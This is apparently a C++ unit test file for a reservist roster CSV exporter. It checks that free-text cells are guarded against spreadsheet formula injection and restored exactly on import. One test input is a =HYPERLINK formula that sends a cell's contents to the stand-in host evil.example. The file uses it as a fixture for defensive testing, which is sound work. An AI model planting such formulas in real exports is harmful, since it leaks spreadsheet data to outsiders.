// Roster CSV export guards free-text cells against spreadsheet formula
// injection, and import takes the guard off again (docs/roster-csv.md).
#include <google/protobuf/util/message_differencer.h>

#include <catch2/catch.hpp>
#include <sstream>

#include "csv_reader.h"
#include "roster_csv.h"

namespace muster::client {
namespace {

namespace v1 = ::muster::v1;

v1::Reservist Person(const std::string& text) {
  v1::Reservist r;
  r.set_external_id(text);
  r.set_name(text);
  r.set_home_area(text);
  r.set_postcode(text);
  r.set_status(v1::ACTIVE);
  r.set_lat(-51.25);
  r.set_lon(-2.15);
  auto* c = r.add_channels();
  c->set_kind(v1::ContactChannel::SMS);
  c->set_address("+447700900123");
  return r;
}

// The cells of every record after the header, as a spreadsheet would see them.
std::vector<std::vector<std::string>> Cells(const std::string& csv) {
  std::istringstream in(csv);
  CsvReader reader(in);
  std::vector<std::vector<std::string>> records;
  REQUIRE(reader.Next() == CsvReader::Outcome::kRecord);  // header
  while (reader.Next() == CsvReader::Outcome::kRecord) {
    records.emplace_back(reader.fields().begin(), reader.fields().end());
  }
  return records;
}

std::vector<v1::Reservist> Read(const std::string& csv) {
  std::istringstream in(csv);
  auto reader = RosterCsvReader::Open(in);
  REQUIRE(reader.ok());
  std::vector<v1::Reservist> out;
  v1::ImportRow row;
  v1::RowError error;
  for (;;) {
    auto outcome = (*reader)->Next(&row, &error);
    if (outcome == RosterCsvReader::Outcome::kEnd) break;
    INFO(error.DebugString());
    REQUIRE(outcome == RosterCsvReader::Outcome::kRow);
    out.push_back(row.reservist());
  }
  return out;
}

TEST_CASE("export starts no free-text cell with a formula character", "[roster_csv][formula]") {
  const std::string hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Jo\")";
  std::string csv = RosterCsvHeader({.include_id = false});
  for (const std::string& text :
       {hyperlink, std::string("+44 20 7946 0000"), std::string("-1+1"), std::string("@SUM(A1:A9)"),
        std::string("\tcmd"), std::string("\r=1"), std::string("'=1+2")}) {
    AppendRosterCsvRecord(Person(text), {.include_id = false}, &csv);
  }
  INFO(csv);
  auto records = Cells(csv);
  REQUIRE(records.size() == 7);
  for (const auto& cells : records) {
    // external_id, name, home_area, postcode: guarded by an apostrophe.
    for (size_t i : {0u, 1u, 2u, 6u}) {
      INFO(i << ": " << cells[i]);
      CHECK(cells[i].front() == '\'');
    }
    // Numbers keep their sign and stay numbers; lists start with their kind.
    CHECK(cells[4] == "-51.25");
    CHECK(cells[5] == "-2.15");
    CHECK(cells[8] == "sms:+447700900123");
  }
  CHECK(records[0][1] == "'" + hyperlink);
  CHECK(records[6][1] == "''=1+2");
}

TEST_CASE("export then import gives every free text back exactly", "[roster_csv][formula]") {
  const std::vector<std::string> texts = {
      "=1+2", "+",      "-",     "@",   "\t", "\r", "'",   "''",     "'=1",   "''@x",
      "'''-", "'plain", "plain", "a=b", "",   "=",  "'\t", "O'Neil", "-2.15", "+447700900123"};
  // home_area is a code, trimmed on import: only its guard is tested here.
  auto person = [](const std::string& text) {
    v1::Reservist r = Person(text);
    r.set_home_area(text.find_first_of(" \t") == std::string::npos ? text : "glos");
    return r;
  };
  std::string csv = RosterCsvHeader({.include_id = false});
  for (const std::string& text : texts) {
    AppendRosterCsvRecord(person(text), {.include_id = false}, &csv);
  }
  INFO(csv);
  std::vector<v1::Reservist> read = Read(csv);
  REQUIRE(read.size() == texts.size());
  for (size_t i = 0; i < texts.size(); ++i) {
    INFO("text '" << texts[i] << "'");
    v1::Reservist expected = person(texts[i]);
    CHECK(read[i].name() == expected.name());
    CHECK(read[i].external_id() == expected.external_id());
    CHECK(read[i].postcode() == expected.postcode());
    CHECK(read[i].home_area() == expected.home_area());
    CHECK(google::protobuf::util::MessageDifferencer::Equals(read[i], expected));
  }
  // And the import of an export exports to the same text again.
  std::string again = RosterCsvHeader({.include_id = false});
  for (const auto& r : read) AppendRosterCsvRecord(r, {.include_id = false}, &again);
  CHECK(again == csv);
}

TEST_CASE("import takes a hand-written formula cell as it is", "[roster_csv][formula]") {
  std::string csv =
      "external_id,name,home_area,lat,lon,postcode,channels\n"
      "=A1,'=A1,glos,-51.5,-2.15,'x,sms:+447700900123\n"
      "'@b,''+1,glos,+51.5,-2,-,email:jo@example.org\n";
  std::vector<v1::Reservist> read = Read(csv);
  REQUIRE(read.size() == 2);
  CHECK(read[0].external_id() == "=A1");  // not guarded: verbatim
  CHECK(read[0].name() == "=A1");         // guarded: the apostrophe is the guard's
  CHECK(read[0].postcode() == "'x");      // an apostrophe before plain text is data
  CHECK(read[0].lat() == -51.5);
  CHECK(read[0].lon() == -2.15);
  CHECK(read[1].external_id() == "@b");
  CHECK(read[1].name() == "'+1");
  CHECK(read[1].postcode() == "-");
  CHECK(read[1].lat() == 51.5);
}

}  // namespace
}  // namespace muster::client
